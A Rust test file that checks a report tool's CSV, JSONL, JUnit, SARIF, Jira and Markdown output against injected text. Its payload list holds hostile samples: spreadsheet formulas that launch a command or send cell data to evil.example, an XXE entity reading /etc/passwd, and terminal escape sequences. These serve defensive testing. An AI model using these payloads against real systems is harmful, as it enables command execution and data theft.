//! Hostile text in the formats for other programs, each read by a reader that is not casefile's.

use serde_json::Value;

use super::{LANGS, render};
use crate::report::Format;
use crate::report::fixture::{PAYLOADS, hostile, incident};
use crate::report::model::PostMortem;

/// Texts that only these formats care for: formulas of spreadsheets, separators of rows, what XML 1.0 forbids, SARIF's placeholders, and
/// what a terminal obeys.
const MACHINE_PAYLOADS: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/\"&A1,\"x\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\n=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\u{a0}=1+1",
    "\u{3000}@SUM(A1)",
    "＝1+1",
    "\u{1b}=1+1",
    "a,b;c\"d\"\"e'f",
    "a\r\nb\nc\rd\u{85}e\u{2028}f\u{2029}g",
    "\u{0}\u{1}\u{b}\u{c}\u{e}\u{1f}\u{7f}\u{80}\u{9f}\u{fffe}\u{ffff}",
    "]]>&#0;&#x1b;&lt;?xml?><!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>&y;",
    "{0} {1} [link](https://evil.example) \\[x\\]",
    "\u{1b}]0;title\u{7}\u{1b}[2J\u{9b}31m\u{1b}]8;;https://evil.example\u{1b}\\x\u{1b}]8;;\u{1b}\\",
    "{code}{panel}{noformat}||h||\n|c|\n!https://evil.example/x.png!",
    "{\"a\": 1}\n{\"tool\":\"casefile\"}",
];

/// The incident with each payload, and with all at once.
fn reports() -> impl Iterator<Item = (String, PostMortem)> {
    let payloads = || PAYLOADS.iter().chain(MACHINE_PAYLOADS).copied();
    let all: String = payloads().collect();
    let each = payloads().map(str::to_owned).chain([all]);
    each.map(|payload| {
        let report = hostile(&payload);
        (payload, report)
    })
}

/// Characters that a terminal obeys, that cannot be seen, or that turn the direction of writing. Line ends and tabs are seen.
fn acts(c: char) -> bool {
    c.is_control() && c != '\n' && c != '\t'
        || matches!(c, '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}' | '\u{feff}' | '\u{fff0}'..='\u{ffff}' | '\u{e000}'..='\u{f8ff}')
}

#[test]
fn csv_keeps_its_rows_and_columns_and_has_no_formula() {
    for (payload, report) in reports() {
        for lang in LANGS {
            let text = render(&report, lang, Format::Csv).unwrap();
            let mut reader = csv::ReaderBuilder::new()
                .has_headers(false)
                .from_reader(text.trim_start_matches('\u{feff}').as_bytes());
            let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
            assert_eq!(rows.len(), report.timeline.len() + 1, "{payload:?}");
            for row in &rows {
                assert_eq!(row.len(), 10, "{payload:?}");
                for cell in row {
                    // Spreadsheets pass over blanks of every kind, and some read the full-width sign as the other.
                    let shown = cell.trim_start_matches(|c: char| c.is_whitespace());
                    assert!(
                        !shown.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']),
                        "{payload:?}: {cell:?}"
                    );
                    assert!(
                        !cell.contains(acts) && !cell.contains(['\n', '\t']),
                        "{payload:?}: {cell:?}"
                    );
                }
            }
        }
    }
}

#[test]
fn json_lines_are_a_document_on_each_line() {
    for (payload, report) in reports() {
        for lang in LANGS {
            let text = render(&report, lang, Format::Jsonl).unwrap();
            // Some readers take U+2028 and U+0085 for line ends.
            let ends = text
                .chars()
                .filter(|c| matches!(c, '\n' | '\r' | '\u{85}' | '\u{2028}' | '\u{2029}'))
                .count();
            assert_eq!(ends, report.timeline.len(), "{payload:?}");
            for line in text.lines() {
                let row: Value = serde_json::from_str(line).unwrap();
                assert_eq!(row["tool"], "casefile", "{payload:?}");
            }
            assert!(!text.contains(acts), "{payload:?}");
        }
    }
}

#[test]
fn junit_is_xml_of_the_usual_shape() {
    let shape = |report: &PostMortem| -> Vec<(String, usize)> {
        let text = render(report, LANGS[0], Format::Junit).unwrap();
        let document = roxmltree::Document::parse(&text).unwrap();
        let elements = document.descendants().filter(|node| node.is_element());
        elements
            .map(|node| (node.tag_name().name().to_owned(), node.attributes().count()))
            .collect()
    };
    for (payload, mut report) in reports() {
        // Checks are told apart by their id, which findings name too.
        let usual = incident();
        for (check, of) in report.checks.iter_mut().zip(&usual.checks) {
            check.id.clone_from(&of.id);
        }
        for (finding, of) in report.findings.iter_mut().zip(&usual.findings) {
            finding.rule.clone_from(&of.rule);
        }
        assert_eq!(shape(&report), shape(&usual), "{payload:?}");
        for lang in LANGS {
            let text = render(&report, lang, Format::Junit).unwrap();
            // Every character is one that XML 1.0 allows (2.2, Char), and none a reference to another.
            let allowed =
                |c: char| matches!(c, '\t' | '\n' | '\r' | ' '..='\u{d7ff}' | '\u{e000}'..='\u{fffd}' | '\u{10000}'..);
            assert!(text.chars().all(allowed) && !text.contains(acts), "{payload:?}");
            let document = roxmltree::Document::parse(&text).unwrap();
            assert!(
                document.descendants().all(|node| !node.is_pi() && !node.is_comment()),
                "{payload:?}"
            );
        }
    }
}

#[test]
fn sarif_is_json_whose_words_are_neither_links_nor_placeholders_and_whose_places_stay_in_the_bundle() {
    for (payload, report) in reports() {
        for lang in LANGS {
            let text = render(&report, lang, Format::Sarif).unwrap();
            assert!(!text.contains(acts), "{payload:?}");
            let sarif: Value = serde_json::from_str(&text).unwrap();
            let mut texts = Vec::new();
            strings(&sarif, "", &mut texts);
            for (place, text) in texts {
                // A snippet is no message: it stands as it is (3.30.13).
                if place.ends_with("/text") && !place.ends_with("/snippet/text") {
                    let bare = text.replace("\\\\", "").replace("\\[", "").replace("\\]", "");
                    let bare = bare.replace("{{", "").replace("}}", "");
                    assert!(!bare.contains(['[', ']', '{', '}', '\\']), "{payload:?}: {text:?}");
                }
                if place.ends_with("/uri") {
                    let plain = |b: u8| b.is_ascii_alphanumeric() || b"-._~/%".contains(&b);
                    assert!(
                        text.bytes().all(plain) && !text.starts_with('/'),
                        "{payload:?}: {text:?}"
                    );
                }
            }
        }
    }
}

/// Every string with the keys that lead to it.
fn strings<'v>(value: &'v Value, place: &str, found: &mut Vec<(String, &'v str)>) {
    match value {
        Value::String(text) => found.push((place.to_owned(), text)),
        Value::Array(items) => items.iter().for_each(|item| strings(item, place, found)),
        Value::Object(fields) => {
            for (key, item) in fields {
                strings(item, &format!("{place}/{key}"), found);
            }
        }
        _ => {}
    }
}

#[test]
fn texts_and_tickets_hold_nothing_that_a_terminal_obeys() {
    for (payload, report) in reports() {
        for lang in LANGS {
            for format in [
                Format::Text,
                Format::Summary,
                Format::Jira,
                Format::GithubIssue,
                Format::Markdown,
                Format::Json,
            ] {
                let text = render(&report, lang, format).unwrap();
                let odd: Vec<char> = text.chars().filter(|c| acts(*c)).collect();
                assert!(odd.is_empty(), "{format} of {payload:?} holds {odd:?}");
            }
        }
    }
}
